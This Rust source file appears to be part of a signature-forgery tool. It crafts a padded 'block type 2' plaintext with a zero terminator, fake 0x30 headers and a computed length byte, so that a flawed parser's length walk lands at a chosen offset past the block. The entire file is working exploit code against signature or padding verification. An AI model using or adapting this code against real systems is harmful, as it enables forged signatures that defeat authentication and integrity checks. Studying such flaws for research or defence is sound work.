use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha20Rng;

use super::ForgeError;
use crate::seed::Seed;
use crate::sigparser::PlaintextBlock;

/// How far past the block end a crafted landing offset may reach.
pub const MAX_LANDING_OVERSHOOT: usize = 127;

/// Preferred terminator position: leaves 26 added bytes plus a two-byte
/// final header for a landing right after the block, like the reference layout.
fn preferred_terminator(block_length: usize) -> usize {
    (block_length as i64 - 33).clamp(2, block_length as i64 - 5).max(2) as usize
}

/// A terminator position `t` with `t + 4 < B` and inner length
/// `L - t - 7 ∈ [0, 255]`, nearest the preferred one.
fn choose_terminator(block_length: usize, landing: usize) -> Option<usize> {
    if block_length < 7 {
        return None;
    }
    let fits = |t: usize| t + 4 < block_length && landing >= t + 7 && landing - t - 7 <= 255;
    let pref = preferred_terminator(block_length);
    (0..block_length)
        .flat_map(|d| [pref.checked_sub(d), pref.checked_add(d)])
        .flatten()
        .find(|&t| t >= 2 && fits(t))
}

/// Builds a block type 2 plaintext whose flawed walk lands exactly at
/// `landing_offset`.
pub fn craft_exploit_plaintext(
    block_length: usize,
    landing_offset: i64,
    filler_seed: Seed,
) -> Result<PlaintextBlock, ForgeError> {
    let b = block_length as i64;
    let unsatisfiable = ForgeError::UnsatisfiableOffset {
        block_length,
        landing_offset,
    };
    if landing_offset < b || landing_offset > b + MAX_LANDING_OVERSHOOT as i64 {
        return Err(unsatisfiable);
    }
    let landing = landing_offset as usize;
    let t = choose_terminator(block_length, landing).ok_or(unsatisfiable)?;

    let mut rng = ChaCha20Rng::from_seed(filler_seed.0);
    let mut out = vec![0u8; block_length];
    out[1] = 0x02;
    for byte in &mut out[2..t] {
        *byte = rng.random_range(1..=255);
    }
    out[t] = 0x00;
    out[t + 1] = 0x30;
    out[t + 2] = rng.random();
    out[t + 3] = 0x30;
    out[t + 4] = (landing - t - 7) as u8;
    // Added length bytes and, if it falls inside the block, the final header.
    rng.fill_bytes(&mut out[t + 5..]);
    Ok(PlaintextBlock::new(out))
}
